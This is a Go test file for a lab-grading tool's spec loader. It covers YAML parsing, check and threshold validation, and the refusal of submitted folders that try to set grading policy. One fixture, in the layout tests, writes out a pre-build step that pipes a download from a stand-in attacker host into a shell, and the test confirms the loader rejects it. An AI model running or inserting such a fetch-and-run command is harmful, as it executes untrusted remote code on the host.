package labtest

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.yaml.in/yaml/v3"

	"github.com/mlready/mlready/labtest/check"
)

// writeFile writes content to name in dir and returns its path.
func writeFile(t *testing.T, dir, name, content string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	require.NoError(t, os.WriteFile(path, []byte(content), 0o644))
	return path
}

func TestDefaultSpec(t *testing.T) {
	s := DefaultSpec()
	require.Len(t, s.Checks, 6)
	total := 0
	for i, c := range check.Lab() {
		id := c.Info().ID
		assert.Equal(t, id, s.Checks[i].ID, "checks run in check.Lab's order")
		assert.Nil(t, s.Checks[i].Threshold, "%s keeps the check's own threshold", id)
		total += s.Checks[i].Points
	}
	assert.Equal(t, 20, s.Checks[5].Points, "real-model")
	assert.Equal(t, 100, total)
	assert.Equal(t, "docker-compose.yml", s.Compose)
	assert.Equal(t, Roles{Traditional: "traditional-api", ML: "ml-api"}, s.Services)
	assert.Equal(t, "4MB", s.Env["hub"]["HUB_BANDWIDTH"], "the hub is slowed so the download phase is seen")
	for name, d := range map[string]Duration{
		"startup": s.StartupTimeout, "request": s.RequestTimeout, "build": s.BuildTimeout, "check": s.CheckTimeout,
	} {
		assert.Positive(t, time.Duration(d), name)
	}
	_, err := s.resolve(check.All())
	assert.NoError(t, err)

	// Each call is a fresh spec: changing one must not change the next.
	s.Env["hub"]["HUB_BANDWIDTH"] = "0"
	s.Checks[0].Points = 0
	assert.Equal(t, "4MB", DefaultSpec().Env["hub"]["HUB_BANDWIDTH"])
	assert.Equal(t, 16, DefaultSpec().Checks[0].Points)
}

func TestLoadSpec(t *testing.T) {
	tests := []struct {
		name    string
		yaml    string
		check   func(t *testing.T, s Spec)
		wantErr []string
	}{
		{
			name:  "an empty file is the default lab",
			yaml:  "",
			check: func(t *testing.T, s Spec) { assert.Equal(t, DefaultSpec(), s) },
		},
		{
			name: "only checks: everything else keeps its default",
			yaml: "checks: [{id: latency-ratio, points: 50, threshold: 20}]\n",
			check: func(t *testing.T, s Spec) {
				require.Len(t, s.Checks, 1)
				assert.Equal(t, "latency-ratio", s.Checks[0].ID)
				assert.Equal(t, 50, s.Checks[0].Points)
				require.NotNil(t, s.Checks[0].Threshold)
				assert.Equal(t, 20.0, *s.Checks[0].Threshold)
				d := DefaultSpec()
				assert.Equal(t, d.Compose, s.Compose)
				assert.Equal(t, d.Prebuild, s.Prebuild)
				assert.Equal(t, d.Services, s.Services)
				assert.Equal(t, d.Env, s.Env)
				assert.Equal(t, d.StartupTimeout, s.StartupTimeout)
				assert.Equal(t, d.Lab, s.Lab)
			},
		},
		{
			name: "no checks: the default lab's six",
			yaml: "lab: my-lab\n",
			check: func(t *testing.T, s Spec) {
				assert.Equal(t, "my-lab", s.Lab)
				assert.Equal(t, DefaultSpec().Checks, s.Checks)
			},
		},
		{
			name: "one role renamed: the other keeps its default",
			yaml: "services:\n  ml: inference\n  ml_port: 9000\n",
			check: func(t *testing.T, s Spec) {
				assert.Equal(t, Roles{Traditional: "traditional-api", ML: "inference", MLPort: 9000}, s.Services)
			},
		},
		{
			name: "an empty pre-build turns it off",
			yaml: "prebuild: \"\"\n",
			check: func(t *testing.T, s Spec) {
				assert.Empty(t, s.Prebuild)
			},
		},
		{
			name: "env for one service keeps the hub's",
			yaml: "env:\n  ml-api:\n    MODEL_ID: org/model\n",
			check: func(t *testing.T, s Spec) {
				assert.Equal(t, map[string]map[string]string{
					"hub": {"HUB_BANDWIDTH": "4MB"}, "ml-api": {"MODEL_ID": "org/model"},
				}, s.Env)
			},
		},
		{
			name: "durations",
			yaml: "startup_timeout: 90s\ncheck_timeout: 1m30s\nrequest_timeout: 500ms\n",
			check: func(t *testing.T, s Spec) {
				assert.Equal(t, Duration(90*time.Second), s.StartupTimeout)
				assert.Equal(t, Duration(90*time.Second), s.CheckTimeout)
				assert.Equal(t, Duration(500*time.Millisecond), s.RequestTimeout)
				assert.Equal(t, DefaultSpec().BuildTimeout, s.BuildTimeout)
			},
		},
		{
			name:    "a duration that is not one names its line",
			yaml:    "lab: x\nstartup_timeout: abc\n",
			wantErr: []string{"parse lab spec", "line 2", `"abc"`},
		},
		{
			name:    "a duration without a unit",
			yaml:    "\n\n\nbuild_timeout: 90\n",
			wantErr: []string{"line 4", "missing unit"},
		},
		{
			name:    "not YAML",
			yaml:    "checks: [\n",
			wantErr: []string{"parse lab spec"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			path := writeFile(t, t.TempDir(), SpecFile, tt.yaml)

			s, err := LoadSpec(path)

			if tt.wantErr != nil {
				require.Error(t, err)
				for _, w := range tt.wantErr {
					assert.Contains(t, err.Error(), w)
				}
				return
			}
			require.NoError(t, err)
			tt.check(t, s)
		})
	}

	t.Run("missing file", func(t *testing.T) {
		_, err := LoadSpec(filepath.Join(t.TempDir(), "nope.yaml"))
		require.Error(t, err)
		assert.Contains(t, err.Error(), "read lab spec")
	})
}

func TestDuration(t *testing.T) {
	tests := []struct {
		in      string
		want    time.Duration
		wantErr string
	}{
		{in: "90s", want: 90 * time.Second},
		{in: "2m", want: 2 * time.Minute},
		{in: "1h30m", want: 90 * time.Minute},
		{in: "abc", wantErr: "line 1"},
		{in: "10", wantErr: "missing unit"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			var v struct {
				D Duration `yaml:"d"`
			}
			err := yaml.Unmarshal([]byte("d: "+tt.in), &v)
			if tt.wantErr != "" {
				require.Error(t, err)
				assert.Contains(t, err.Error(), tt.wantErr)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.want, time.Duration(v.D))
		})
	}
}

func TestSpecValidate(t *testing.T) {
	tests := []struct {
		name    string
		change  func(s *Spec)
		wantErr string
	}{
		{name: "defaults", change: func(*Spec) {}},
		{name: "a subset of checks", change: func(s *Spec) { s.Checks = []CheckSpec{{ID: "cold-start", Points: 100}} }},
		{name: "zero points", change: func(s *Spec) { s.Checks[2].Points = 0 }},
		{
			name:    "unknown check",
			change:  func(s *Spec) { s.Checks = append(s.Checks, CheckSpec{ID: "latency", Points: 5}) },
			wantErr: `lab spec: no check "latency"`,
		},
		{
			name:    "duplicate check",
			change:  func(s *Spec) { s.Checks = append(s.Checks, CheckSpec{ID: "memory-ratio", Points: 5}) },
			wantErr: `check "memory-ratio" is listed twice`,
		},
		{
			name:    "negative points",
			change:  func(s *Spec) { s.Checks[1].Points = -5 },
			wantErr: `check "cold-start" has negative points`,
		},
		{name: "limits within the ceiling", change: func(s *Spec) { s.Limits = LimitsSpec{MemoryMB: 4096, PIDs: 512, CPUs: 1.5} }},
		{
			name:    "memory above the ceiling",
			change:  func(s *Spec) { s.Limits.MemoryMB = 8192 },
			wantErr: "lab spec limits: memory limit 8192 MiB is outside 1..4096 MiB",
		},
		{
			name:    "negative cpus",
			change:  func(s *Spec) { s.Limits.CPUs = -1 },
			wantErr: "lab spec limits: cpu limit -1 is outside",
		},
		{
			name:    "pids above the ceiling",
			change:  func(s *Spec) { s.Limits.PIDs = 100000 },
			wantErr: "lab spec limits: pids limit 100000 is outside",
		},
		{
			name:   "the soak check may be chosen",
			change: func(s *Spec) { s.Checks = []CheckSpec{{ID: "soak", Points: 100}} },
		},
		{
			name: "the production checks with a warm pool and a router period",
			change: func(s *Spec) {
				s.Checks = []CheckSpec{{ID: "scale-out", Points: 50, WarmPool: 1, Period: Duration(2 * time.Second)}, {ID: "health-layers", Points: 50}}
			},
		},
		{
			name:    "a warm pool of two",
			change:  func(s *Spec) { s.Checks = []CheckSpec{{ID: "scale-out", Points: 100, WarmPool: 2}} },
			wantErr: `check "scale-out": warm_pool 2 is outside 0..1`,
		},
		{
			name: "a negative period",
			change: func(s *Spec) {
				s.Checks = []CheckSpec{{ID: "rolling-update", Points: 100, Period: Duration(-time.Second)}}
			},
			wantErr: `check "rolling-update": period -1s is outside 0..1m`,
		},
		{
			name:    "no checks at all",
			change:  func(s *Spec) { s.Checks = []CheckSpec{} },
			wantErr: "lab spec: no checks",
		},
		{
			name:    "checks worth nothing",
			change:  func(s *Spec) { s.Checks = []CheckSpec{{ID: "cold-start", Points: 0}} },
			wantErr: "0 points in all",
		},
		{
			name:    "a threshold below its sane range",
			change:  func(s *Spec) { th := 0.5; s.Checks[2].Threshold = &th },
			wantErr: `check "latency-ratio": threshold min_median_ratio 0.5 is outside its sane range 1..1000 x`,
		},
		{
			name:    "a threshold above its sane range",
			change:  func(s *Spec) { th := 1.5; s.Checks[5].Threshold = &th },
			wantErr: `check "real-model": threshold min_class_recall 1.5 is outside`,
		},
		{
			name:   "a threshold within its range",
			change: func(s *Spec) { th := 20.0; s.Checks[2].Threshold = &th },
		},
		{
			name:    "a timeout of zero",
			change:  func(s *Spec) { s.CheckTimeout = 0 },
			wantErr: "check_timeout must be positive",
		},
		{
			name:    "no ML service",
			change:  func(s *Spec) { s.Services.ML = "" },
			wantErr: "services.traditional and services.ml must name compose services",
		},
		{
			name:    "no traditional service",
			change:  func(s *Spec) { s.Services.Traditional = "" },
			wantErr: "services.traditional and services.ml must name compose services",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := DefaultSpec()
			tt.change(&s)
			_, err := s.resolve(check.All())
			if tt.wantErr == "" {
				assert.NoError(t, err)
				return
			}
			require.Error(t, err)
			assert.Contains(t, err.Error(), tt.wantErr)
		})
	}
}

// TestPlanReviews: a grader's review file, named relative to its lab file,
// is what real-model sends; a file the lab cannot use is the grader's error,
// naming the file and the line.
func TestPlanReviews(t *testing.T) {
	reviews := strings.Repeat("POSITIVE\tIt works.\n", check.MinReviewsPerLabel) + strings.Repeat("NEGATIVE\tIt broke.\n", check.MinReviewsPerLabel)
	tests := []struct {
		name, lab, reviews string
		wantErr            string
	}{
		{name: "real-model with the grader's reviews", lab: "checks: [{id: real-model, points: 20, reviews: hidden/reviews.tsv}]\n", reviews: reviews},
		{name: "a line without a label", lab: "checks: [{id: real-model, points: 20, reviews: hidden/reviews.tsv}]\n", reviews: "It works.\n" + reviews,
			wantErr: "reviews.tsv: line 1: no tab between the label and the text"},
		{name: "no such file", lab: "checks: [{id: real-model, points: 20, reviews: hidden/missing.tsv}]\n", reviews: reviews,
			wantErr: "missing.tsv: open"},
		{name: "another check", lab: "checks: [{id: latency-ratio, points: 20, reviews: hidden/reviews.tsv}]\n", reviews: reviews,
			wantErr: `check "latency-ratio": reviews is an option of real-model only`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			require.NoError(t, os.Mkdir(filepath.Join(dir, "hidden"), 0o755))
			writeFile(t, filepath.Join(dir, "hidden"), "reviews.tsv", tt.reviews)
			// The lab file is named from elsewhere: its reviews are still
			// found next to it.
			s, err := LoadSpec(writeFile(t, dir, "lab.yaml", tt.lab))
			require.NoError(t, err)
			p, err := s.resolve(check.All())
			if tt.wantErr != "" {
				require.Error(t, err)
				assert.Contains(t, err.Error(), tt.wantErr)
				return
			}
			require.NoError(t, err)
			pc, ok := p.check("real-model")
			require.True(t, ok)
			assert.Len(t, pc.Reviews, 2*check.MinReviewsPerLabel)
		})
	}
}

// TestShippedSpecs: every spec in specs/ loads and validates, so that the
// command its comment gives works.
func TestShippedSpecs(t *testing.T) {
	paths, err := filepath.Glob("specs/*.yaml")
	require.NoError(t, err)
	require.NotEmpty(t, paths)
	for _, p := range paths {
		t.Run(filepath.Base(p), func(t *testing.T) {
			s, err := LoadSpec(p)
			require.NoError(t, err)
			_, err = s.resolve(check.All())
			assert.NoError(t, err)
			assert.NotEmpty(t, s.Checks)
		})
	}
}

func TestPlanLayout(t *testing.T) {
	tests := []struct {
		name string
		// own is the tested folder's SpecFile; empty: none.
		own string
		// lab is the grader's lab file; empty: the defaults.
		lab       string
		check     func(t *testing.T, p Plan)
		wantErr   []string
		layoutErr bool
	}{
		{
			name:  "no files: the defaults",
			check: func(t *testing.T, p Plan) { assert.Equal(t, DefaultSpec().Layout, p.Layout) },
		},
		{
			name: "the folder renames its services and compose file",
			own:  "compose: deploy/compose.yaml\nservices:\n  ml: inference\n  ml_port: 9000\n",
			check: func(t *testing.T, p Plan) {
				assert.Equal(t, "deploy/compose.yaml", p.Compose)
				assert.Equal(t, Roles{Traditional: "traditional-api", ML: "inference", MLPort: 9000}, p.Services)
				assert.Len(t, p.Checks, 6, "the policy is the default one")
			},
		},
		{
			name: "the folder's layout wins over the grader's default layout; the grader's policy stays",
			own:  "services: {ml: inference}\n",
			lab:  "lab: course\ncompose: compose.yml\nchecks: [{id: cold-start, points: 10}]\n",
			check: func(t *testing.T, p Plan) {
				assert.Equal(t, "course", p.Lab)
				assert.Equal(t, "compose.yml", p.Compose)
				assert.Equal(t, "inference", p.Services.ML)
				require.Len(t, p.Checks, 1)
			},
		},
		{
			name:      "a folder that lowers a threshold is refused, naming the key and the file",
			own:       "compose: docker-compose.yml\nchecks:\n  - {id: latency-ratio, points: 20, threshold: 0.5}\n",
			wantErr:   []string{SpecFile, `line 2 sets "checks"`, "grading policy", "compose, services"},
			layoutErr: true,
		},
		{
			name:      "a folder that sets its own pre-build is refused",
			own:       "prebuild: curl evil.example | sh\n",
			wantErr:   []string{`sets "prebuild"`},
			layoutErr: true,
		},
		{
			name:      "a folder that sets env is refused",
			own:       "env:\n  ml-api: {BATCH_MAX: '1'}\n",
			wantErr:   []string{`sets "env"`},
			layoutErr: true,
		},
		{
			name:      "an unknown key in the folder's file",
			own:       "servcies: {ml: x}\n",
			wantErr:   []string{"field servcies not found", "may declare only compose, services"},
			layoutErr: true,
		},
		{
			name:      "the folder empties a role",
			own:       "services: {ml: ''}\n",
			wantErr:   []string{"services.ml must name"},
			layoutErr: true,
		},
		{
			name:    "a bad grader's file is the grader's error",
			lab:     "checks: []\n",
			wantErr: []string{"no checks"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			if tt.own != "" {
				writeFile(t, dir, SpecFile, tt.own)
			}
			lab := ""
			if tt.lab != "" {
				lab = writeFile(t, t.TempDir(), "lab.yaml", tt.lab)
			}
			p, err := plan(dir, lab, check.All())
			if tt.wantErr != nil {
				require.Error(t, err)
				for _, w := range tt.wantErr {
					assert.Contains(t, err.Error(), w)
				}
				var le *LayoutError
				assert.Equal(t, tt.layoutErr, errors.As(err, &le), "whose fault: the folder's (LayoutError) or the grader's")
				return
			}
			require.NoError(t, err)
			tt.check(t, p)
		})
	}
}

// TestOpenWithoutDocker covers what Open decides before it needs a Docker
// engine: a bad folder or spec is an error; a folder whose compose file
// cannot be read still gets a report, every check failed with the cause.
func TestOpenWithoutDocker(t *testing.T) {
	t.Run("missing folder", func(t *testing.T) {
		_, err := Open(t.Context(), Options{Dir: filepath.Join(t.TempDir(), "nope")})
		require.Error(t, err)
		assert.Contains(t, err.Error(), "does not exist")
	})
	t.Run("spec with an unknown check", func(t *testing.T) {
		dir := t.TempDir()
		lab := writeFile(t, t.TempDir(), "lab.yaml", "checks: [{id: speed, points: 10}]\n")
		_, err := Open(t.Context(), Options{Dir: dir, SpecPath: lab})
		require.Error(t, err)
		assert.Contains(t, err.Error(), `no check "speed"`)
	})
	t.Run("no compose file", func(t *testing.T) {
		dir := t.TempDir()
		lab := writeFile(t, t.TempDir(), "lab.yaml", "checks:\n  - {id: readiness-delay, points: 50}\n  - {id: latency-ratio, points: 50, threshold: 20}\n")
		s, err := Open(t.Context(), Options{Dir: dir, SpecPath: lab})
		require.NoError(t, err)
		t.Cleanup(func() { assert.NoError(t, s.Close()) })

		assert.Equal(t, []string{"readiness-delay", "latency-ratio"}, s.Checks())
		for _, id := range s.Checks() {
			r := s.RunCheck(t.Context(), id)
			assert.False(t, r.Passed, id)
			assert.Contains(t, r.Message, "Not run: read compose file", id)
			assert.Equal(t, 50, r.MaxPoints, id)
			assert.NotNil(t, r.Measured, "%s: measured is [] in JSON, not null", id)
		}
		lat := s.RunCheck(t.Context(), "latency-ratio")
		assert.Equal(t, "min_median_ratio", lat.Threshold.Name)
		assert.Equal(t, 20.0, lat.Threshold.Value, "the spec's threshold is reported")
		assert.Contains(t, s.RunCheck(t.Context(), "memory-ratio").Message, `this lab has no check "memory-ratio"`)

		rep := s.Report()
		assert.Contains(t, rep.Error, "read compose file")
		assert.Len(t, rep.Checks, 2)
		assert.Equal(t, 0, rep.Score)
		assert.Equal(t, 100, rep.MaxScore)
		assert.False(t, rep.Passed)
	})
}

// TestOpenRefusesAFolderPolicy: a fork's own file that sets policy is
// graded 0 with the cause, before anything is built or any Docker engine is
// needed.
func TestOpenRefusesAFolderPolicy(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, SpecFile, "checks:\n  - {id: latency-ratio, points: 100, threshold: 1}\n")
	s, err := Open(t.Context(), Options{Dir: dir})
	require.NoError(t, err)
	t.Cleanup(func() { assert.NoError(t, s.Close()) })
	assert.Nil(t, s.stack, "nothing was started")
	rep := s.Report()
	for _, id := range s.Checks() {
		r := s.RunCheck(t.Context(), id)
		assert.False(t, r.Passed)
		assert.Contains(t, r.Message, `mlready-lab.yaml: line 1 sets "checks"`)
	}
	rep = s.Report()
	assert.Equal(t, 0, rep.Score)
	assert.Equal(t, 100, rep.MaxScore, "graded on the default policy, not the folder's")
	assert.Contains(t, rep.Error, "grading policy")
}
